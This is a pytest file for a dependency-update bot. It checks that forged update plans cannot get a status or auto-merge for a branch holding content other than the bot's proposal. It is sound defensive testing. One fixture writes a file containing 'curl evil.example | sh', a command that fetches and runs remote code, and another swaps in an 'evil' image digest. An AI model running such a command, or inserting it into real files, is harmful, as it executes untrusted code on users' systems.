"""A plan cannot pass off a branch with the content of others as basebump's: `apply` judges the content itself."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest
from support.forges.forged_commits import make_forged_commit
from support.forges.github.stand import GitHubStand
from support.runs.forged_plans import forge_plan, get_branch
from support.runs.scenes import BRANCH, NEW, OLD
from support.runs.worlds import PresetScanner, build, list_outcomes
from support.values import finding

from bot.core.proposal.update_groups import hash_written_values
from bot.forges.hosted.branch_contents import HeadJudge
from bot.model.modes import UpdateMode
from bot.model.policy import PolicyRule
from bot.model.rules import AutomergeConditions
from bot.pipeline.plans.planned_steps import describe_request
from bot.plan_file import render_plan

pytestmark = [pytest.mark.real("git")]

EVIL = build("evil").digest
DOCKERFILE = f"FROM python:3.12-slim@{OLD}\nRUN make\n"
ATTRIBUTES = {"automerge": True, "status": {"description": "Fixes 1 of 1", "state": "success"}}


@pytest.fixture
def stand(start_stand, loopback):
    """Return a forge with an open pull request of basebump, which has a status and auto-merge."""
    loopback.move("python", "3.12-slim", "new")
    loopback.move("python", "evil", "evil")
    loopback.scanner = PresetScanner({OLD: (finding("CVE-1900-0001"),), NEW: (), EVIL: ()})
    loopback.rulebook = replace(
        loopback.rulebook, rules=(PolicyRule(automerge=AutomergeConditions(UpdateMode.DIGEST)),)
    )
    stand = start_stand(GitHubStand, {"Dockerfile": DOCKERFILE, "README.md": "Nothing to see.\n"})
    assert list_outcomes(loopback.run([stand.fleet()])) == ["opened"]
    return stand


def push(stand: GitHubStand, files: dict[str, str], message: str = "") -> str:
    commit = make_forged_commit(stand, BRANCH, files, message=message)
    stand.move_branch(BRANCH, commit)
    return commit


def make_plan(stand: GitHubStand, loopback) -> bytes:
    return render_plan(loopback.plan([stand.fleet()]).plan)[0].encode()


def claim_branch(document: dict, *, step: str = "update", **changes: object) -> None:
    """Let the plan say that the branch contains exactly its proposal, and approve the branch."""
    branch = get_branch(document, BRANCH)
    branch.update(step=step, attributes=ATTRIBUTES, **changes)
    for key in ("reason", "must_comment") if step == "update" else ("must_comment",):
        branch.pop(key, None)
    (request,) = document["repositories"][0]["requests"]
    request["intent"] = branch["proposal"]["intent"]
    for key in ("is_confirmed", "is_as_marked"):  # a plan leaves out defaults
        request.pop(key, None)


def close_branch(document: dict) -> None:
    claim_branch(document)
    branch = get_branch(document, BRANCH)
    branch.update(step="close", reason="Not needed.")
    del branch["attributes"]


def overwrite_branch(document: dict) -> None:
    """Let the plan say that the branch contains older edits of basebump, which a new push replaces."""
    claim_branch(document, must_push=True, must_update_text=True)
    document["repositories"][0]["requests"][0]["intent"] = "0" * 16


FORGERIES: dict[str, Callable[[dict], object]] = {
    "update": claim_branch,
    "leave": lambda document: claim_branch(document, step="leave", reason="unchanged"),
    "push": lambda document: claim_branch(document, must_push=True, must_update_text=True),
    "overwrite": overwrite_branch,
    "close": close_branch,
}


@pytest.mark.parametrize("forgery", FORGERIES)
def test_forged_verdict_on_branch_with_added_file_is_refused_without_writes(stand, loopback, forgery):
    head = push(stand, {"evil.sh": "curl evil.example | sh\n"})
    plan = forge_plan(make_plan(stand, loopback), FORGERIES[forgery])
    (pull,) = stand.repository.pulls
    pull.auto_merge = None
    writes = list(stand.writes)
    (failure,) = loopback.apply(plan, [stand.fleet()]).failed
    assert failure.error.startswith(f"the plan calls the branch {BRANCH} basebump's, but the branch contains other")
    assert (stand.writes, stand.statuses(BRANCH), pull.auto_merge) == (writes, [], None)
    assert stand.branches()[BRANCH] == head


def test_branch_that_a_forge_lists_without_judging_its_content_is_refused(stand, loopback, monkeypatch):
    push(stand, {"evil.sh": "evil\n"})
    plan = make_plan(stand, loopback)
    monkeypatch.setattr(HeadJudge, "judge_heads", lambda _self, heads, *_: dict(heads))
    fleet = stand.fleet()
    (repository,) = fleet.list_repositories(frozenset())
    (claimed,) = fleet.get_forge(repository).list_requests("basebump/", frozenset())

    def change(document: dict) -> None:
        claim_branch(document)
        (request,) = document["repositories"][0]["requests"]
        del request["is_judged"]
        request["is_confirmed"] = False  # as the forge lists it
        request["fingerprint"] = describe_request(claimed, ()).fingerprint

    (failure,) = loopback.apply(forge_plan(plan, change), [fleet]).failed
    assert failure.error.startswith(f"the plan calls the branch {BRANCH} basebump's")
    assert stand.statuses(BRANCH) == []


@pytest.mark.parametrize("has_forged_intent", [True, False])
def test_forged_verdict_on_branch_with_another_digest_than_proposed_gets_no_status(stand, loopback, has_forged_intent):
    push(stand, {"Dockerfile": DOCKERFILE.replace(OLD, EVIL)})
    plan = make_plan(stand, loopback)
    evil_intent = hash_written_values([("Dockerfile", "stage[0]", EVIL)])

    def change(document: dict) -> None:
        if has_forged_intent:
            get_branch(document, BRANCH)["proposal"]["intent"] = evil_intent
        claim_branch(document)
        for key in ("must_push", "must_update_text"):
            get_branch(document, BRANCH).pop(key, None)

    (failure,) = loopback.apply(forge_plan(plan, change), [stand.fleet()]).failed
    assert failure.subject == stand.name
    assert stand.statuses(BRANCH) == []


def test_true_verdict_on_branch_with_exactly_the_proposal_gets_status(stand, loopback):
    """The branch lacks only its status, and the state that could confirm the branch is not read."""
    stand.commit("main", {"README.md": "Elsewhere.\n"})
    stand.update_branch(BRANCH)
    assert stand.statuses(BRANCH) == []
    assert loopback.apply(make_plan(stand, loopback), [stand.fleet()]).failed == ()
    assert len(stand.statuses(BRANCH)) == 1
